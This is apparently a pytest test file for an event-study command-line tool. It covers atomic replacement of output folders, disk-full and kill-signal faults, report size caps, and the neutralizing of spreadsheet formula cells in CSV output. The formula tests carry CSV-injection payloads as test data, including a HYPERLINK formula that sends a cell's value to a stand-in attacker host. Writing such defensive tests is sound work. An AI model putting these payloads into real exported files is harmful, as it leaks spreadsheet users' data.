"""An output folder holds one complete run: never a mix, never stale files, never a temp folder after a rerun.

Faults are real where the machine allows: a small tmpfs filled up (disk full)
or mounted read-only when the tests run as root, else an injected write
failure; kills are real signals sent to child processes paused at each step of
the swap. Also here: spreadsheet-formula cells neutralized in every CSV, and
the report size cap.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

import evstudy.report.writing as writing
from evstudy.api import run_study
from evstudy.cli import cli
from evstudy.config import ad_hoc_config
from evstudy.errors import ConfigError
from evstudy.report.files import write_outputs
from evstudy.report.writing import MANIFEST, FORMULA_LEADS, neutralize_formula_cells, write_output_set
from market_fakes import EVENT, market, write_wide_csv

TESTS = Path(__file__).resolve().parent
STUDY_FILES = {"report.html", "results.json", "abnormal_returns.csv", "cars.csv", "tests.csv", MANIFEST}


@pytest.fixture(scope="module")
def prices(tmp_path_factory) -> Path:
    return write_wide_csv(market(), tmp_path_factory.mktemp("prices") / "wide.csv")


def cli_run(*args: object) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, [str(a) for a in args], prog_name="evstudy")
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def study(prices: Path, out: Path, *extra: object, tickers: str = "AAA,BBB") -> tuple[int, str, str]:
    return cli_run("run", "--event", EVENT, "--tickers", tickers, "--prices", prices, "--out", out, "--quiet", *extra)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir()}


def siblings(out: Path) -> list[str]:
    """Anything evstudy left next to ``out`` (staging or set-aside folders)."""
    return sorted(p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}."))


def error_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines and lines[-1].startswith("Error: ") and "Traceback" not in err, err
    return lines[-1]


# --------------------------------------------------------------------------- one set, no stale files


def test_a_one_basket_run_into_a_two_basket_runs_folder_leaves_no_stale_comparisons(prices, tmp_path):
    config = tmp_path / "two.toml"
    config.write_text(textwrap.dedent(f"""
        name = "two"
        benchmark = "SPY"
        [[events]]
        date = {EVENT}
        [[baskets]]
        name = "a"
        tickers = ["AAA", "BBB"]
        [[baskets]]
        name = "b"
        tickers = ["CCC", "QQQ"]
    """))
    out = tmp_path / "out"
    code, _, err = cli_run("run", config, "--prices", prices, "--out", out, "--quiet")
    assert code == 0, err
    assert (out / "comparisons.csv").is_file()
    code, _, err = study(prices, out)
    assert code == 0, err
    assert {p.name for p in out.iterdir()} == STUDY_FILES  # the earlier comparisons.csv is gone
    manifest = json.loads((out / MANIFEST).read_text())
    assert manifest["command"] == "run" and set(manifest["files"]) == STUDY_FILES - {MANIFEST}
    assert siblings(out) == []


def test_a_scan_replaces_a_study_in_the_same_folder(prices, tmp_path):
    out = tmp_path / "out"
    assert study(prices, out)[0] == 0
    code, _, err = cli_run("scan", "--event", EVENT, "--prices", prices, "--out", out, "--quiet", "--min-returns", "50")
    assert code == 0, err
    assert {p.name for p in out.iterdir()} == {"scan.csv", "scan.json", "scan.html", MANIFEST}


# --------------------------------------------------------------------------- folders that are refused


def test_an_output_name_that_is_a_folder_is_refused_before_anything_is_computed(prices, tmp_path, monkeypatch):
    out = tmp_path / "out"
    assert study(prices, out)[0] == 0
    (out / "report.html").unlink()
    (out / "report.html").mkdir()
    before = snapshot_tree(out)
    monkeypatch.setattr("evstudy.api.compute_study", lambda *a, **k: pytest.fail("computed before refusing"))
    code, _, err = study(prices, out)
    assert code == 2
    line = error_line(err)
    assert f"--out {out} holds report.html/ (a folder), not written by evstudy" in line
    assert snapshot_tree(out) == before and siblings(out) == []


def snapshot_tree(folder: Path) -> dict[str, bytes | None]:
    return {str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else None) for p in folder.rglob("*")}


def test_a_folder_with_files_evstudy_did_not_write_is_refused_and_kept(prices, tmp_path):
    out = tmp_path / "mine"
    out.mkdir()
    (out / "notes.txt").write_text("my notes")
    (out / "cars.csv").write_text("my own cars")
    code, _, err = study(prices, out)
    assert code == 2 and "holds notes.txt, not written by evstudy" in error_line(err)
    assert snapshot(out) == {"notes.txt": b"my notes", "cars.csv": b"my own cars"}


def test_an_earlier_versions_folder_without_a_manifest_is_replaced(prices, tmp_path):
    out = tmp_path / "old"
    out.mkdir()
    for name in ("report.html", "results.json", "cars.csv", ".report.html.k2j3.tmp"):
        (out / name).write_text("from an earlier evstudy")
    assert study(prices, out)[0] == 0
    assert {p.name for p in out.iterdir()} == STUDY_FILES


@pytest.mark.parametrize("where, words", [("/dev/full", "--out /dev/full is a device, socket or pipe, not a folder"),
                                          ("file", "' is a file")])  # click's own check of --out
def test_an_out_that_is_not_a_folder_is_one_line(prices, tmp_path, where, words):
    out = Path(where) if where.startswith("/") else tmp_path / where
    if not out.exists():
        out.write_text("x")
    code, _, err = study(prices, out)
    assert code == 2 and words in error_line(err) and str(out) in error_line(err)


def test_the_current_folder_is_refused(prices, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, _, err = study(prices, Path("."))
    assert code == 2 and "is (or contains) the current folder" in error_line(err)


# --------------------------------------------------------------------------- write failures


@pytest.fixture
def tmpfs(tmp_path):
    """A 24 MB tmpfs at tmp_path/disk (root only); skipped where it cannot be mounted."""
    disk = tmp_path / "disk"
    disk.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=24m", "tmpfs", str(disk)], capture_output=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode().strip()}")
    yield disk
    subprocess.run(["umount", "-l", str(disk)], check=True)


def test_disk_full_keeps_the_previous_set_whole(prices, tmpfs):
    out = tmpfs / "out"
    assert study(prices, out)[0] == 0
    before = snapshot(out)
    free = os.statvfs(tmpfs).f_bavail * os.statvfs(tmpfs).f_frsize
    (tmpfs / "filler").write_bytes(b"\0" * (free - 1_000_000))  # 1 MB left: less than one report
    code, _, err = study(prices, out, tickers="AAA,BBB,CCC")
    assert code == 2
    line = error_line(err)
    assert f"--out {out}: cannot write the outputs (No space left on device, writing" in line
    assert "the folder was left as it was" in line
    assert snapshot(out) == before and siblings(out) == []


def test_a_read_only_out_is_one_line_and_untouched(prices, tmpfs):
    code, _, err = study(prices, tmpfs)
    assert code == 2 and "is a mount point" in error_line(err)
    out = tmpfs / "out"
    assert study(prices, out)[0] == 0
    before = snapshot(out)
    subprocess.run(["mount", "-o", "remount,ro", str(tmpfs)], check=True)
    code, _, err = study(prices, out)
    assert code == 2 and f"--out {out} is not writable" in error_line(err)
    assert snapshot(out) == before and siblings(out) == []


@pytest.mark.parametrize("failing", ["results.json", "report.html", "swap"])
def test_an_injected_write_failure_keeps_the_previous_set_whole(prices, tmp_path, monkeypatch, failing):
    out = tmp_path / "out"
    assert study(prices, out)[0] == 0
    before = snapshot(out)
    real_write, real_swap = writing._write_file, writing._swap_in

    def write_file(path, data):
        if path.name == failing:
            real_write(path, data[: len(data) // 2])
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real_write(path, data)

    def swap_in(staging, target, aside):
        if failing == "swap":
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(target))
        real_swap(staging, target, aside)

    monkeypatch.setattr(writing, "_write_file", write_file)
    monkeypatch.setattr(writing, "_swap_in", swap_in)
    code, _, err = study(prices, out, tickers="AAA,CCC")
    assert code == 2 and f"--out {out}: cannot write the outputs" in error_line(err)
    assert snapshot(out) == before and siblings(out) == []


# --------------------------------------------------------------------------- killed at each step

_WRITER = """
import os, sys, time
from pathlib import Path
import evstudy.report.writing as w

step, marker, out, version, fallback = sys.argv[1:6]
real_write, real_swap, real_rename = w._write_file, w._swap_in, os.rename


def pause():
    Path(marker).touch()
    time.sleep(120)


def write_file(path, data):
    real_write(path, data)
    if step == "writing" and path.name == "results.json":
        pause()


def swap_in(staging, target, aside):
    real_swap(staging, target, aside)
    if step == "swapped":
        pause()


def rename(src, dst):
    real_rename(src, dst)
    if step == "aside" and Path(src).name == Path(out).name:
        pause()


w._write_file, w._swap_in, os.rename = write_file, swap_in, rename
if fallback == "1":
    w._exchange = lambda first, second: False
names = ["cars.csv", "results.json", "report.html"]
w.write_output_set(out, {n: f"{version} {n}".encode() * 50_000 for n in names}, command="test")
"""


def _set(version: str) -> dict[str, bytes]:
    names = ["cars.csv", "results.json", "report.html"]
    return {n: f"{version} {n}".encode() * 50_000 for n in names}


def _files(out: Path) -> dict[str, bytes]:
    return {name: data for name, data in snapshot(out).items() if name != MANIFEST}


CASES = [(step, sig, fallback) for step, fallback in (("writing", "0"), ("swapped", "0"), ("swapped", "1"),
                                                      ("aside", "1"))
         for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL)]


@pytest.mark.parametrize("step, sig, fallback", CASES, ids=[f"{s}-{g.name}-{'rename' if f == '1' else 'exchange'}"
                                                            for s, g, f in CASES])
def test_a_run_killed_at_any_step_leaves_one_complete_set(tmp_path, step, sig, fallback):
    out, marker = tmp_path / "out", tmp_path / "paused"
    write_output_set(out, _set("old"), command="test")
    child = subprocess.Popen([sys.executable, "-c", _WRITER, step, str(marker), str(out), "new", fallback],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=TESTS)
    deadline = time.monotonic() + 60
    while not marker.exists():
        assert child.poll() is None, child.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.01)
    child.send_signal(sig)
    child.communicate(timeout=60)
    assert child.returncode != 0
    complete = {"writing": "old", "swapped": "new", "aside": "old"}[step]
    if sig == signal.SIGKILL and step == "aside":
        assert not out.exists() and len(siblings(out)) == 2  # the one window of the rename fallback...
        writing.check_output_folder(out)  # ...which the next run closes, putting the previous set back
    elif sig == signal.SIGKILL:
        assert _files(out) == _set(complete) and siblings(out)  # the complete set, and a leftover
        writing.check_output_folder(out)
    assert _files(out) == _set(complete) and siblings(out) == []
    write_output_set(out, _set("third"), command="test")  # and the folder is usable again
    assert _files(out) == _set("third") and siblings(out) == []


def test_a_live_runs_staging_folder_is_not_removed(tmp_path):
    out = tmp_path / "out"
    write_output_set(out, _set("old"), command="test")
    staging, lock = writing._make_staging(out, writing._target_of(out))
    try:
        writing.check_output_folder(out)
        assert staging.is_dir()  # locked: another run is writing it
    finally:
        os.close(lock)
    writing.check_output_folder(out)
    assert not staging.exists()


_CLI_PAUSED = """
import sys, time
from pathlib import Path
import evstudy.report.writing as w

real_write = w._write_file


def write_file(path, data):
    real_write(path, data)
    if path.name == "cars.csv":
        Path({marker!r}).touch()
        time.sleep(120)


w._write_file = write_file
from evstudy.cli import main
sys.argv = ["evstudy", *sys.argv[1:]]
main()
"""


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_run_says_so_truthfully_and_keeps_the_previous_set(prices, tmp_path, sig):
    out, marker = tmp_path / "out", tmp_path / "paused"
    assert study(prices, out)[0] == 0
    before = snapshot(out)
    child = subprocess.Popen(
        [sys.executable, "-c", _CLI_PAUSED.format(marker=str(marker)), "run", "--event", EVENT, "--tickers", "AAA,CCC",
         "--prices", str(prices), "--out", str(out), "--quiet"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=TESTS)
    deadline = time.monotonic() + 120
    while not marker.exists():
        assert child.poll() is None, child.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.02)
    child.send_signal(sig)
    _, err = child.communicate(timeout=60)
    assert child.returncode == 130
    assert error_line(err).startswith("Error: interrupted (outputs and cache files are replaced whole")
    assert snapshot(out) == before and siblings(out) == []


# --------------------------------------------------------------------------- spreadsheet formulas


def test_neutralize_formula_cells_prefixes_text_only():
    frame = pd.DataFrame({
        "ticker": ["=HYPERLINK(\"http://x\",\"y\")", "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "AAA", None, "BRK-B"],
        "car": [-0.5, 1.0, -2.0, 0.0, np.nan, -1e-9, 3.0, 4.0, -5.0],
        "n": np.arange(9) - 4,
    })
    safe = neutralize_formula_cells(frame)
    assert safe["ticker"].tolist()[:7] == ["'=HYPERLINK(\"http://x\",\"y\")", "'+1", "'-2+3", "'@SUM(A1)", "'\tTAB",
                                           "'\rCR", "AAA"]
    assert pd.isna(safe["ticker"].iloc[7]) and safe["ticker"].iloc[8] == "BRK-B"
    pd.testing.assert_series_equal(safe["car"], frame["car"])
    pd.testing.assert_series_equal(safe["n"], frame["n"])
    assert frame["ticker"].iloc[0].startswith("=")  # the input is not changed
    clean = pd.DataFrame({"ticker": ["AAA"], "x": [-1.0]})
    assert neutralize_formula_cells(clean) is clean


def _text_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    numeric = []
    for cell in cells:
        try:
            float(cell)
        except ValueError:
            numeric.append(cell)
    return numeric


def test_formula_names_in_a_price_file_never_reach_scan_csv(tmp_path):
    """Names a spreadsheet would run (quotes and a comma too) are not ticker symbols: left out with a note."""
    closes = market()[["SPY", "AAA", "BBB", "CCC"]].copy()
    evil = {"=1+1": "AAA", "+A1": "AAA", "@SUM(1+1)": "BBB", "-2+3": "CCC", '=HYPERLINK("http://x.io")': "BBB",
            '=HYPERLINK("http://x.io","y")': "CCC"}
    for name, like in evil.items():
        closes[name] = closes[like] * 1.01
    long = closes.stack().rename("close").reset_index()
    long.columns = ["date", "ticker", "close"]
    long["date"] = long["date"].dt.strftime("%Y-%m-%d")
    path = tmp_path / "long.csv"
    long.to_csv(path, index=False)
    out = tmp_path / "out"
    code, _, err = cli_run("scan", "--event", EVENT, "--prices", path, "--out", out, "--quiet", "--min-returns", "50")
    assert code == 0, err
    text = (out / "scan.csv").read_text()
    assert not [cell for cell in _text_cells(text) if cell.startswith(FORMULA_LEADS)]
    table = pd.read_csv(out / "scan.csv")
    assert set(table["ticker"]) == {"AAA", "BBB", "CCC"}
    assert (table["ar_day0"] < 0).any() and table["ar_day0"].dtype == np.float64  # negatives stay numbers
    notes = json.loads((out / "scan.json").read_text())["data"]["notes"]
    assert any("6 names that are not a ticker symbol left out" in note for note in notes)


def test_formula_text_is_neutralized_in_every_study_csv(prices, tmp_path):
    results = run_study(ad_hoc_config(event=EVENT, tickers=["AAA", "BBB"], benchmark="SPY"), prices=prices)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    results.abnormal_returns["ticker"] = results.abnormal_returns["ticker"].replace("AAA", evil)
    results.cars["ticker"] = results.cars["ticker"].replace("AAA", evil)
    results.tests["note"] = "-" + results.tests["note"].fillna("x").astype(str)
    write_outputs(results, tmp_path / "out")
    for name in ("abnormal_returns.csv", "cars.csv", "tests.csv"):
        text = (tmp_path / "out" / name).read_text()
        assert not [cell for cell in _text_cells(text) if cell.startswith(FORMULA_LEADS)], name
    cars = pd.read_csv(tmp_path / "out" / "cars.csv")
    assert f"'{evil}" in set(cars["ticker"]) and cars["car"].dtype == np.float64 and (cars["car"] < 0).any()


# --------------------------------------------------------------------------- report size


def test_a_report_over_the_cap_is_a_summary_page_with_a_warning(prices, tmp_path):
    out = tmp_path / "out"
    code, _, err = study(prices, out, "--max-report-mb", "0.5")
    assert code == 0, err
    warning = [line for line in err.splitlines() if line.startswith("Warning: the full report.html would be")]
    assert len(warning) == 1 and "over the 0.5 MB" in warning[0] and "summary-only report.html" in warning[0]
    report = (out / "report.html").read_text()
    assert len(report) < 100_000 and "Summary only." in report and "cars.csv" in report
    assert "AAA" in report and "<script" not in report
    full = tmp_path / "full"
    assert study(prices, full)[0] == 0
    assert (full / "report.html").stat().st_size > 500_000
    assert (out / "cars.csv").read_bytes() == (full / "cars.csv").read_bytes()


def test_the_cap_must_be_positive(prices, tmp_path):
    code, _, err = study(prices, tmp_path / "out", "--max-report-mb", "0")
    assert code == 2 and "--max-report-mb" in err


def test_library_write_error_is_a_config_error(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(ConfigError, match="cannot create the output folder"):
        write_output_set(blocker / "sub", {"cars.csv": b"x"}, command="test")
